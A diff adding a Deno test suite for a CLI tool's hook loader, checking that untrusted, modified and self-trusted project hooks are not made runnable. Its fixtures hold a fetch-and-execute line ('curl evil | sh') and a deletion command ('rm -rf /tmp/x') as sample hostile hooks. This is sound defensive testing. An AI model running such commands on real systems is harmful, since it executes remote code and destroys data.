@@ -1,0 +1,207 @@
+import assert from "node:assert/strict";
+import { loadConfig } from "../../lib/config/mod.ts";
+import { type HookHandlerInfo, loadHooks, type PluginHookSource } from "../../lib/hooks/mod.ts";
+import { platform } from "../../lib/platform/mod.ts";
+import { makeSandboxHome } from "../helpers/cli_harness.ts";
+
+const guard = (command: string, matcher = "Bash") =>
+  JSON.stringify({ hooks: { PreToolUse: [{ matcher, hooks: [{ type: "command", command }] }] } });
+
+async function load(
+  env: Record<string, string>,
+  cwd: string,
+  options: { overrides?: string[]; pluginSources?: PluginHookSource[] } = {},
+) {
+  const loaded = await loadConfig(platform.fs, { cwd, env: (n) => env[n], overrides: options.overrides });
+  return await loadHooks({ loaded, platform, pluginSources: options.pluginSources ?? [] });
+}
+
+const summary = (h: HookHandlerInfo) => ({
+  key: h.key,
+  kind: h.sourceKind,
+  trust: h.trust,
+  runnable: h.runnable,
+});
+
+Deno.test("loadHooks() lists a user hook as untrusted and never runnable when no hash is stored (HK-3)", async () => {
+  const { root, env } = await makeSandboxHome();
+  const file = `${env.TRELLIS_HOME}/hooks.json`;
+  await platform.fs.writeTextFile(file, guard("echo user"));
+  const result = await load(env, root);
+  assert.deepStrictEqual(result.handlers.map(summary), [
+    { key: `${file}:pre_tool_use:0:0`, kind: "user", trust: "untrusted", runnable: false },
+  ]);
+  assert.deepStrictEqual(result.needsReview, 1);
+});
+
+Deno.test("loadHooks() runs a hook whose stored hash matches and marks it modified after an edit (HK-3)", async () => {
+  const { root, env } = await makeSandboxHome();
+  const file = `${env.TRELLIS_HOME}/hooks.json`;
+  await platform.fs.writeTextFile(file, guard("echo user"));
+  const { handlers: [first] } = await load(env, root);
+  await platform.fs.writeTextFile(
+    `${env.TRELLIS_HOME}/config.toml`,
+    `[hooks.state."${first.key}"]\ntrusted_hash = "${first.hash}"\n`,
+  );
+  const trusted = await load(env, root);
+  assert.deepStrictEqual(trusted.handlers.map(summary), [{
+    ...summary(first),
+    trust: "trusted",
+    runnable: true,
+  }]);
+  assert.deepStrictEqual(trusted.needsReview, 0);
+  await platform.fs.writeTextFile(file, guard("echo user; rm -rf /tmp/x"));
+  const modified = await load(env, root);
+  assert.deepStrictEqual(modified.handlers.map(summary), [{
+    ...summary(first),
+    trust: "modified",
+    runnable: false,
+  }]);
+});
+
+Deno.test("loadHooks() keeps managed hooks runnable and drops unmanaged ones when allow_managed_hooks_only", async () => {
+  const { root, env } = await makeSandboxHome();
+  const etc = env.TRELLIS_SYSTEM_DIR;
+  await platform.fs.writeTextFile(`${etc}/hooks.json`, guard("echo system"));
+  await platform.fs.mkdir(`${etc}/managed`);
+  await platform.fs.writeTextFile(`${etc}/managed/hooks.json`, guard("echo managed"));
+  await platform.fs.writeTextFile(`${env.TRELLIS_HOME}/hooks.json`, guard("echo user"));
+  const plugin: PluginHookSource = {
+    pluginId: "demo@test",
+    pluginRoot: `${root}/plugins/demo/1.0.0`,
+    dataDir: `${root}/data`,
+    sourcePath: "hooks/hooks.json",
+    hooks: JSON.parse(guard("echo plugin")),
+  };
+  const all = await load(env, root, { pluginSources: [plugin] });
+  assert.deepStrictEqual(all.handlers.map((h) => [h.sourceKind, h.trust, h.runnable]), [
+    ["managed", "managed", true],
+    ["system", "managed", true],
+    ["user", "untrusted", false],
+    ["plugin", "untrusted", false],
+  ]);
+  await platform.fs.writeTextFile(`${etc}/requirements.toml`, "allow_managed_hooks_only = true\n");
+  const managedOnly = await load(env, root, { pluginSources: [plugin] });
+  assert.deepStrictEqual(managedOnly.handlers.map((h) => h.sourceKind), ["managed", "system"]);
+});
+
+Deno.test("loadHooks() gives plugin hooks keys independent of the install path (HK-4)", async () => {
+  const { root, env } = await makeSandboxHome();
+  const hooks = {
+    hooks: {
+      PreToolUse: [{ hooks: [{ type: "command", command: "a" }, { command: "${CLAUDE_PLUGIN_ROOT}/b" }] }],
+    },
+  };
+  const source = (version: string): PluginHookSource => ({
+    pluginId: "demo@test",
+    pluginRoot: `${root}/plugins/cache/demo/${version}`,
+    dataDir: `${root}/plugins/data/demo-test`,
+    sourcePath: "hooks/hooks.json",
+    hooks,
+  });
+  const v1 = await load(env, root, { pluginSources: [source("1.0.0")] });
+  const v2 = await load(env, root, { pluginSources: [source("2.0.0")] });
+  assert.deepStrictEqual(v1.handlers.map((h) => h.key), [
+    "demo@test:hooks/hooks.json:pre_tool_use:0:0",
+    "demo@test:hooks/hooks.json:pre_tool_use:0:1",
+  ]);
+  assert.deepStrictEqual(v2.handlers.map((h) => [h.key, h.hash]), v1.handlers.map((h) => [h.key, h.hash]));
+});
+
+Deno.test("loadHooks() skips project hooks of an untrusted project and ignores trust a project writes itself", async () => {
+  const { root, env } = await makeSandboxHome();
+  const project = `${root}/repo`;
+  await platform.fs.mkdir(`${project}/.git`);
+  await platform.fs.mkdir(`${project}/.trellis`);
+  const projectFile = `${project}/.trellis/hooks.json`;
+  await platform.fs.writeTextFile(projectFile, guard("curl evil | sh"));
+  const untrustedProject = await load(env, project);
+  assert.deepStrictEqual(untrustedProject.handlers, []);
+  assert.ok(untrustedProject.diagnostics.some((d) => /trellis project trust/.test(d.message)));
+
+  await platform.fs.writeTextFile(
+    `${env.TRELLIS_HOME}/config.toml`,
+    `[projects."${project}"]\ntrust_level = "trusted"\n`,
+  );
+  const listed = await load(env, project);
+  const [h] = listed.handlers;
+  // The repository tries to trust its own hook: project layers never carry hook state.
+  await platform.fs.writeTextFile(
+    `${project}/.trellis/config.toml`,
+    `[hooks.state."${h.key}"]\ntrusted_hash = "${h.hash}"\nenabled = true\n`,
+  );
+  const selfTrusted = await load(env, project);
+  assert.deepStrictEqual(selfTrusted.handlers.map(summary), [
+    { key: `${projectFile}:pre_tool_use:0:0`, kind: "project", trust: "untrusted", runnable: false },
+  ]);
+});
+
+Deno.test("loadHooks() turns bad sources into named warnings and still loads the good ones", async () => {
+  const { root, env } = await makeSandboxHome();
+  await platform.fs.writeTextFile(`${env.TRELLIS_SYSTEM_DIR}/hooks.json`, "{ not json");
+  await platform.fs.writeTextFile(`${env.TRELLIS_SYSTEM_DIR}/requirements.toml`, "this is = = not toml");
+  const file = `${env.TRELLIS_HOME}/hooks.json`;
+  await platform.fs.writeTextFile(
+    file,
+    JSON.stringify({
+      hooks: {
+        PreToolUze: [],
+        PreToolUse: [
+          { matcher: "[", hooks: [{ type: "command", command: "echo bad-regex" }] },
+          {
+            matcher: "Bash",
+            hooks: [{ type: "prompt", prompt: "x" }, { type: "command", command: "x", async: true }],
+          },
+          { hooks: [{ type: "command", command: "  " }, { type: "command", command: "echo ok" }] },
+        ],
+      },
+    }),
+  );
+  const result = await load(env, root);
+  assert.deepStrictEqual(result.handlers.map((h) => [h.key, h.command]), [[
+    `${file}:pre_tool_use:2:1`,
+    "echo ok",
+  ]]);
+  const messages = result.diagnostics.map((d) => d.message.replace(/\(.*\)/, "(…)"));
+  const etc = env.TRELLIS_SYSTEM_DIR;
+  assert.deepStrictEqual(messages, [
+    `Cannot load hooks "${etc}/requirements.toml": invalid TOML (…)`,
+    `Cannot load hooks "${etc}/hooks.json": invalid JSON (…)`,
+    `unknown hook event "PreToolUze" in ${file} (…)`,
+    `invalid matcher "[" in ${file}: ${result.diagnostics[3].message.split(": ").slice(1).join(": ")}`,
+    `skipping prompt hook in ${file}: prompt hooks are not supported yet`,
+    `skipping async hook in ${file}: async hooks are not supported yet`,
+    `skipping empty hook command in ${file}`,
+  ]);
+});
+
+Deno.test("loadHooks() loads both representations of a layer with the single-representation warning (HK-2)", async () => {
+  const { root, env } = await makeSandboxHome();
+  await platform.fs.writeTextFile(`${env.TRELLIS_HOME}/hooks.json`, guard("echo json"));
+  const toml = new URL("../../fixtures/hooks/guards/config.toml", import.meta.url).pathname;
+  await platform.fs.copyFile(toml, `${env.TRELLIS_HOME}/config.toml`);
+  const result = await load(env, root);
+  assert.deepStrictEqual(result.handlers.map((h) => h.command), ["echo json", "echo guard"]);
+  assert.deepStrictEqual(result.diagnostics.map((d) => d.message), [
+    `loading hooks from both ${env.TRELLIS_HOME}/hooks.json and ${env.TRELLIS_HOME}/config.toml; ` +
+    "prefer a single representation for this layer",
+  ]);
+});
+
+Deno.test("loadHooks() reads Claude Code settings behind the claude_code switch and -c session hooks", async () => {
+  const { root, env } = await makeSandboxHome();
+  await platform.fs.mkdir(`${env.HOME}/.claude`);
+  const settings = JSON.parse(guard("echo claude"));
+  await platform.fs.writeTextFile(
+    `${env.HOME}/.claude/settings.json`,
+    JSON.stringify({ model: "x", ...settings }),
+  );
+  const session = 'hooks.Stop=[{hooks=[{type="command",command="echo session"}]}]';
+  const on = await load(env, root, { overrides: [session] });
+  assert.deepStrictEqual(on.handlers.map((h) => [h.sourceKind, h.command, h.event]), [
+    ["claude_user", "echo claude", "PreToolUse"],
+    ["session", "echo session", "Stop"],
+  ]);
+  const off = await load(env, root, { overrides: ["hooks.claude_code=false"] });
+  assert.deepStrictEqual(off.handlers, []);
+});
